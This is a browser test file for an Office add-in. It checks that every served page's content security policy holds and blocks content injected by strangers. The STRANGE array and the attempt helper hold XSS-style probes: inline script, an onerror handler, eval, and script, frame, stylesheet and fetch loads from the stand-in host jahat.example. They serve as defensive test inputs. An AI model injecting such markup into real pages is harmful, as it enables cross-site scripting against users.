/**
 * The content security policy of every page that is delivered, in a real browser: nothing of ours breaks it, and what strangers
 * would put into a page is not run. The pages are served with the header of docs/peladen as well, as an office serves them.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { pane, press } from './preview/page';
import { showTab } from './preview/panel';
import { panelAddress, usePreview } from './preview/session';

const root = join(__dirname, '../..');
const HEADER = / Content-Security-Policy +"([^"]+)"/.exec(
  readFileSync(join(root, 'docs/peladen/nginx.conf'), 'utf8'),
)?.[1];
/** The preview builds the pages before the tests, so they are listed when a test runs. */
const pages = (): string[] => readdirSync(join(root, 'dist/addin')).filter((name) => name.endsWith('.html'));
/**
 * Office.js gives an element a style of its own, and on a slow machine, where its host answers late, opens a frame for its own
 * telemetry; Chromium refuses both, here as in Excel on the web, and nothing is lost.
 */
const OFFICE = /\/office-js\/.*(style-src|Framing 'https:\/\/telemetryservice\.)/s;

const { visit, blank } = usePreview();

/** Serves the add-in's files with the header, and its pages with `more` at the end of their body. */
const asServed = async (context: BrowserContext, more = ''): Promise<void> => {
  await context.route('**/panel/**', async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers(), 'content-security-policy': HEADER ?? '' };
    const isPage = /\.html$/.test(new URL(route.request().url()).pathname);
    const body = isPage ? (await response.text()).replace('</body>', `${more}</body>`) : await response.body();
    await route.fulfill({ response, headers, body });
  });
};

/** What the browser refuses in a page, its frames and workers; without what Office.js does. */
const refusals = (page: Page): string[] => {
  const seen: string[] = [];
  page.on('console', (message) => {
    const text = `${message.location().url}: ${message.text()}`;
    if (/Content Security Policy/.test(text) && !OFFICE.test(text)) seen.push(text);
  });
  return seen;
};

/** Tries what a script that got into the page would try, in the page's own turn: what a test evaluates may do anything. */
const attempt = (page: Page, what: 'eval' | 'fetch' | 'handler'): Promise<string> =>
  page.evaluate((kind) => {
    const run = async (): Promise<void> => {
      if (kind === 'eval') (0, eval)('window.rusak = 1');
      else if (kind === 'fetch') await fetch('https://jahat.example/');
      else document.body.insertAdjacentHTML('beforeend', '<img src="tidak-ada.png" onerror="window.rusak = 1">');
      await new Promise((resolve) => setTimeout(resolve, 200));
    };
    return new Promise<string>((resolve) => {
      setTimeout(() => {
        run().then(
          () => resolve('rusak' in window ? 'run' : 'not run'),
          () => resolve('refused'),
        );
      }, 0);
    });
  }, what);

test('the header of the examples is the policy of the pane', () => {
  const policies: { PANE_POLICY: string } = jest.requireActual('../../src/bantuan/policies.js');
  expect(HEADER).toBe(policies.PANE_POLICY);
  const iis = readFileSync(join(root, 'docs/peladen/web.config'), 'utf8');
  expect(iis).toContain(`<add name="Content-Security-Policy" value="${policies.PANE_POLICY}" />`);
});

test('a day in the pane breaks no policy, with its worker under the same header', async () => {
  const page = await visit();
  await asServed(page.context());
  const seen = refusals(page);
  await page.reload();
  await press(page, 'hitungUlang');
  expect(page.workers().length).toBeGreaterThan(0);
  for (const tab of ['Tabel', 'Kolom', 'Temuan', 'Ringkasan', 'Pengaturan']) await showTab(page, tab);
  await showTab(page, 'Temuan');
  await pane(page)
    .getByRole('button', { name: /^Perbaiki semua/ })
    .first()
    .click();
  await pane(page).getByRole('dialog').getByRole('listitem').first().waitFor();
  await pane(page).getByRole('dialog').getByRole('button', { name: 'Batal' }).click();
  await press(page, 'kembalikan');
  expect(seen).toEqual([]);
});

test('no page breaks its policy when it is opened', async () => {
  const page = await blank();
  await asServed(page.context());
  const seen = refusals(page);
  expect(pages()).toEqual(expect.arrayContaining(['taskpane.html', 'bantuan.html', 'help.html']));
  for (const name of pages()) {
    await page.goto(panelAddress(name));
    await page.waitForLoadState('networkidle');
  }
  expect(seen).toEqual([]);
});

const STRANGE = [
  '<script>window.rusak = 1</script>',
  '<img src="tidak-ada.png" onerror="window.rusak = 1">',
  '<script src="https://jahat.example/x.js"></script>',
  '<iframe src="https://jahat.example/"></iframe>',
  '<link rel="stylesheet" href="https://jahat.example/x.css">',
];

test('what a stranger puts into a page is refused, each piece of it, on every page', async () => {
  const page = await blank();
  await asServed(page.context(), STRANGE.join(''));
  for (const name of pages()) {
    const seen = refusals(page);
    await page.goto(panelAddress(name));
    await page.waitForLoadState('networkidle');
    expect([name, await page.evaluate(() => 'rusak' in window)]).toEqual([name, false]);
    for (const kind of [
      /script/,
      /inline event handler/,
      /x\.js/,
      /jahat\.example\/'.*frame|frame-src|child-src/,
      /x\.css/,
    ])
      expect([name, kind.source, seen.some((text) => kind.test(text))]).toEqual([name, kind.source, true]);
  }
});

test.each(['taskpane.html', 'bantuan.html'])('%s: nor does what comes in later run, or send anything', async (name) => {
  const page = await blank();
  await asServed(page.context());
  await page.goto(panelAddress(name));
  expect(await attempt(page, 'eval')).toBe('refused');
  expect(await attempt(page, 'handler')).toBe('not run');
  const seen = refusals(page);
  expect(await attempt(page, 'fetch')).toBe('refused');
  expect(seen.join()).toMatch(/jahat\.example.*connect-src/s);
});
